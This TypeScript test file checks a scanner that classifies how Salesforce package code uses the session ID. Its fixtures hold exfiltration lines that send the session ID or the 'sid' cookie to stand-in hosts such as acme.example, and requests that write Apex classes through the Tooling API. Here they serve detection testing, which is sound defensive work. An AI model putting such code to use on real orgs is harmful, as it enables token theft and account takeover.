import { expect } from 'chai';
import type { Evidence } from '../../../src/engine/types.js';
import { sessionIds } from '../../../src/package/collectors/sessionIds.js';
import type { SessionId } from '../../../src/package/facts.js';
import { metadata, packageProject, sourceOf } from '../../support/packageSource.js';

const folder = 'force-app/main/default';
const header = { [`${folder}/labels/A.labels-meta.xml`]: metadata('CustomLabels', '<labels/>') };
type Files = Record<string, string>;

const collect = async (files: Files): Promise<Evidence<readonly SessionId[]>> =>
  sessionIds.collect(await sourceOf({ 'sfdx-project.json': packageProject, ...header, ...files }), {
    asOf: new Date(0),
    params: {},
    required: [],
  });

/** `Type:name:line → kinds of use`, for each source in a script. */
const told = async (files: Files): Promise<string[]> => {
  const evidence = await collect(files);
  expect(evidence.status, JSON.stringify(evidence)).to.equal('complete');
  return evidence.status === 'complete'
    ? evidence.value
        .filter(({ file }) => !file.endsWith('.cls'))
        .map(
          ({ component: { type, name }, line, uses }) =>
            `${type}:${name}:${line ?? ''} → ${[...new Set(uses.map(({ to }) => to))].sort().join(', ')}`
        )
    : [];
};

const script = (...lines: readonly string[]): Files => ({
  [`${folder}/staticresources/app.resource`]: '',
  [`${folder}/staticresources/tool.js`]: lines.join('\n'),
});
const aura = (controller: string, helper = '({})', apex = 'Sessions'): Files => ({
  [`${folder}/aura/Card/Card.cmp`]: `<aura:component controller="${apex}"/>`,
  [`${folder}/aura/Card/CardController.js`]: controller,
  [`${folder}/aura/Card/CardHelper.js`]: helper,
});
const lwc = (...lines: readonly string[]): Files => ({ [`${folder}/lwc/card/card.js`]: lines.join('\n') });
const page = (text: string): Files => ({ [`${folder}/pages/P.page`]: text });
const apex: Files = {
  [`${folder}/classes/Sessions.cls`]:
    'public class Sessions { @AuraEnabled public static String getKey() { return UserInfo.getSessionId(); } @AuraEnabled public static String getName() { return UserInfo.getName(); } }',
};
const sid = 'sforce.connection.sessionId';

type Row = [title: string, files: Files, expected: readonly string[]];
/** One request with the session ID. */
const request = (path: string, options: string): Files =>
  script(
    `function go(verb, name) {`,
    `fetch(${path}, { headers: { Authorization: 'Bearer ' + ${sid} }, ${options} });`,
    `}`
  );
const parts = (...all: ReadonlyArray<readonly [method: string, url: string]>): string =>
  `method: 'POST', body: JSON.stringify({ compositeRequest: [${all.map(([method, url]) => `{ method: '${method}', url: '${url}', referenceId: 'a' }`).join(', ')}] })`;
const COMPOSITE = "'/services/data/v60.0/composite'";
const rows: readonly Row[] = [
  [
    'a composite request that writes Apex classes',
    request(
      COMPOSITE,
      parts(['GET', '/services/data/v60.0/limits'], ['POST', '/services/data/v60.0/tooling/sobjects/ApexClass'])
    ),
    ['StaticResource:tool:2 → prohibited'],
  ],
  [
    'a composite request that asks the Tooling API',
    request(COMPOSITE, parts(['GET', '/services/data/v60.0/tooling/query?q=x'])),
    // Which of its words is the method of a part is not known.
    ['StaticResource:tool:2 → tooling-write'],
  ],
  [
    'trap: a composite request over records',
    request(COMPOSITE, parts(['POST', '/services/data/v60.0/sobjects/Account'])),
    ['StaticResource:tool:2 → data'],
  ],
  [
    'a composite request whose parts are handed in',
    request(COMPOSITE, `method: 'POST', body: JSON.stringify({ compositeRequest: name })`),
    ['StaticResource:tool:2 → unknown'],
  ],
  [
    'a write of a class through the REST API',
    request("'/services/data/v60.0/sobjects/ApexClass/' + name", `method: 'PATCH', body: name`),
    ['StaticResource:tool:2 → prohibited'],
  ],
  [
    'a method that is handed in',
    request("'/services/data/v60.0/tooling/sobjects/ApexClass'", 'method: verb'),
    ['StaticResource:tool:2 → tooling-write'],
  ],
  [
    'a write of a type that the body names',
    request(
      "'/services/data/v60.0/tooling/sobjects/' + name",
      `method: 'POST', body: JSON.stringify({ type: 'ApexTrigger' })`
    ),
    ['StaticResource:tool:2 → prohibited'],
  ],
  [
    'a query of the data API of the org, with fetch',
    script(`fetch('/services/data/v60.0/query?q=', { headers: { Authorization: 'Bearer ' + ${sid} } });`),
    ['StaticResource:tool:1 → data'],
  ],
  [
    'a host that is not the org is a third party, also through variables',
    script(
      `var key = window.__sfdcSessionId;`,
      `var options = { url: 'https://api.acme.example/in', type: 'POST', data: { key: key } };`,
      `$.ajax(options);`
    ),
    ['StaticResource:tool:1 → third-party'],
  ],
  [
    'a web socket of a third party, and an address with it',
    script(
      `new WebSocket('wss://live.acme.example/?s=' + ${sid});`,
      `window.open('https://acme.example/?s=' + ${sid});`
    ),
    ['StaticResource:tool:1 → third-party', 'StaticResource:tool:2 → third-party'],
  ],
  [
    'Tooling API: a query reads, a patch writes, and of a remote site it is prohibited',
    script(
      `function ask(method, path) { return fetch('/services/data/v60.0/tooling/' + path, { method: method, headers: { Authorization: ${sid} } }); }`,
      `axios.get('/services/data/v60.0/tooling/query', { headers: { Authorization: ${sid} } });`,
      `$.post('/services/data/v60.0/tooling/sobjects/RemoteProxy', { token: ${sid} });`,
      `ask('PATCH', 'sobjects/CustomField');`
    ),
    [
      'StaticResource:tool:1 → tooling-write',
      'StaticResource:tool:2 → tooling-query',
      'StaticResource:tool:3 → prohibited',
    ],
  ],
  [
    'SOAP of the Metadata API that writes, and one that reads, with XMLHttpRequest',
    script(
      `function write() { var x = new XMLHttpRequest(); x.open('POST', '/services/Soap/m/60.0'); x.send('<x:sessionId>' + ${sid} + '</x:sessionId><createMetadata>'); }`,
      `function read() { var x = new XMLHttpRequest(); x.open('POST', '/services/Soap/m/60.0'); x.send('<x:sessionId>' + ${sid} + '</x:sessionId><listMetadata>'); }`
    ),
    ['StaticResource:tool:1 → metadata-write', 'StaticResource:tool:2 → metadata-read'],
  ],
  [
    'trap: a variable of the same name in another function is another variable',
    script(
      `function ours() { var x = new XMLHttpRequest(); x.open('GET', '/services/data/v60.0/limits'); x.setRequestHeader('Authorization', 'OAuth ' + ${sid}); x.send(); }`,
      `function theirs() { var x = new XMLHttpRequest(); x.open('GET', 'https://acme.example/news'); x.send(); }`
    ),
    ['StaticResource:tool:1 → data'],
  ],
  [
    'the session id out of the cookie',
    script(
      `const cookie = (name) => document.cookie.split('; ').find((one) => one.startsWith(name));`,
      `fetch('https://acme.example', { body: cookie('sid=') });`
    ),
    ['StaticResource:tool:1 → third-party'],
  ],
  [
    'trap: other cookies are not session ids',
    script(`fetch('https://acme.example', { body: document.cookie.split('theme=')[1] }); // sid`),
    [],
  ],
  ['a function whose end is not known', script(`acmeTracker.identify(${sid});`), ['StaticResource:tool:1 → unknown']],
  [
    'a global variable is read by other scripts',
    script(`window.acmeKey = ${sid};`),
    ['StaticResource:tool:1 → unknown'],
  ],
  [
    'trap: to ask whether there is one, and to hand one to the toolkit, is no use',
    script(`if (!${sid}) { ${sid} = token; }`, `// send(${sid})`),
    [],
  ],
  [
    'the toolkit itself',
    script(`sforce.connection.init(window.__sfdcSessionId, '/services/Soap/u/60.0');`),
    ['StaticResource:tool:1 → data'],
  ],
  [
    'trap: a library that merely has a parameter sessionId is no use',
    script(
      `function Client(options) { this.sessionId = options.sessionId; send('https://acme.example', this.sessionId); }`
    ),
    [],
  ],
  [
    'trap: libraries that are proven, and tests',
    {
      [`${folder}/staticresources/lib/a.js`]: `/*\n * Copyright (c) 2011, salesforce.com, inc.\n */\nforcetk.Client = function () { send(${sid}); };`,
      [`${folder}/lwc/card/__tests__/card.test.js`]: `send(${sid});`,
      [`${folder}/lwc/card/card.js`]: '',
    },
    [],
  ],
  [
    'files that are only called like a library, or lie in a folder of tests',
    {
      [`${folder}/staticresources/jquery-3.7.1.js`]: `send(${sid});`,
      [`${folder}/staticresources/app/tests/vendor/forcetk.js`]: `send(${sid});`,
    },
    ['StaticResource:app:1 → unknown', 'StaticResource:jquery-3:1 → unknown'],
  ],
  [
    'a page with a line of 6,000 characters is followed',
    page(
      `<apex:page><script>var s = '{!$Api.Session_ID}';\nfetch('https://x.example/?' + s);</script>` +
        `<img src="data:image/png;base64,${'A'.repeat(6000)}"/></apex:page>`
    ),
    ['VisualforcePage:P:1 → third-party'],
  ],
  [
    'so is a script in a page that is one line of 6,000 characters, if it has the merge field',
    page(
      `<apex:page><script>var s = '{!$Api.Session_ID}', x = '${'A'.repeat(6000)}'; fetch('https://x.example/?' + s);</script></apex:page>`
    ),
    ['VisualforcePage:P:1 → third-party'],
  ],
  [
    'so is a component with such a line that asks Apex for the session ID',
    {
      ...apex,
      ...lwc(
        `import getKey from '@salesforce/apex/Sessions.getKey'; const image = '${'A'.repeat(6000)}';`,
        `getKey().then((key) => fetch('https://x.example/?' + key));`
      ),
    },
    ['LightningComponentBundle:card:2 → third-party'],
  ],
  [
    'a bundle that calls a remote method for the session ID has it, and its use is not known',
    {
      ...apex,
      [`${folder}/staticresources/remote.js`]: `${'a();'.repeat(2000)}Sessions.getKey(function (key) { b(key); });`,
    },
    ['StaticResource:remote:1 → unknown'],
  ],
  [
    'a bundle is not followed, and reports it where it has the name of a session id',
    {
      [`${folder}/staticresources/bundle.js`]: `${'a();'.repeat(2000)}x(window.__sfdcSessionId);`,
      [`${folder}/staticresources/cookies.js`]: `${'a();'.repeat(2000)}x(document.cookie,"sid");`,
    },
    ['StaticResource:bundle:1 → unknown', 'StaticResource:cookies:1 → unknown'],
  ],
  [
    'LWC: an Apex method that gives a session id, with decorators around',
    {
      ...apex,
      ...lwc(
        "import { LightningElement, api, wire } from 'lwc';",
        "import getKey from '@salesforce/apex/Sessions.getKey';",
        'export default class Card extends LightningElement {',
        "  @api recordId;\n  @wire(getRecord, { recordId: '$recordId', fields: [A(B)] }) record;",
        '  @api',
        '  async send() {',
        '    this.key = await getKey();',
        "    await fetch('https://acme.example', { headers: { Authorization: `Bearer ${this.key}` } });",
        '  }',
        '}'
      ),
    },
    ['LightningComponentBundle:card:8 → third-party'],
  ],
  [
    'trap: LWC that calls another method of the same class',
    {
      ...apex,
      ...lwc(
        "import getName from '@salesforce/apex/Sessions.getName';",
        "getName().then((name) => fetch('https://a.example/' + name));"
      ),
    },
    [],
  ],
  [
    'Aura: from the controller through the helper, and by an attribute',
    {
      ...apex,
      ...aura(
        "({ init: function (cmp, event, helper) { var action = cmp.get('c.getKey'); action.setCallback(this, function (response) { cmp.set('v.key', response.getReturnValue()); helper.load(cmp); }); $A.enqueueAction(action); } })",
        "({ load: function (cmp) { var x = new XMLHttpRequest(); x.open('GET', '/services/data/v60.0/tooling/query'); x.setRequestHeader('Authorization', cmp.get('v.key')); x.send(); } })"
      ),
    },
    ['AuraDefinitionBundle:Card:1 → tooling-query'],
  ],
  [
    'trap: Aura with another controller that has a method of the same name',
    {
      ...apex,
      ...aura("({ init: function (cmp) { fetch('https://a.example', cmp.get('c.getKey')); } })", '({})', 'Other'),
    },
    [],
  ],
  [
    'a page whose script reads it, with merge fields',
    page(
      `<apex:page>\n<script>\nvar list = {!json};\nfetch('https://acme.example', { body: ${sid} });\n</script></apex:page>`
    ),
    ['VisualforcePage:P:4 → third-party'],
  ],
  [
    'a page of a static resource, and a script of a Metadata API folder',
    {
      [`${folder}/staticresources/site.html`]: `<html><script>post(${sid})</script></html>`,
      [`${folder}/staticresources/Old.resource`]: `post(${sid})`,
    },
    ['StaticResource:Old:1 → unknown', 'StaticResource:site:1 → unknown'],
  ],
];

describe('package/collectors/sessionIds, scripts', () => {
  for (const [title, files, expected] of rows) {
    it(title, async () => expect(await told(files)).to.deep.equal(expected));
  }

  it('tells two sources of one file apart', async () => {
    const evidence = await collect(script(`post(${sid});`, `post(${sid});`));
    expect(evidence.status === 'complete' && evidence.value.map(({ at }) => at)).to.deep.equal([sid, `${sid} #2`]);
  });

  it('a script that does not parse makes the evidence a part, but only where it contains such a word outside of comments', async () => {
    const evidence = await collect(script(`post(${sid};`));
    expect(evidence.status === 'partial' && evidence.gap.subject?.file).to.equal(`${folder}/staticresources/tool.js`);
    expect((await collect(script(`post(;`, `// ${sid}`))).status).to.equal('complete');
    const deep = `post(${'['.repeat(30_000)}${sid}${']'.repeat(30_000)})`;
    expect((await collect(script(deep))).status).to.be.oneOf(['partial', 'complete']);
    expect((await collect(script(deep.replace(/(.{4000})/g, '$1\n')))).status).to.equal('partial');
  });
});
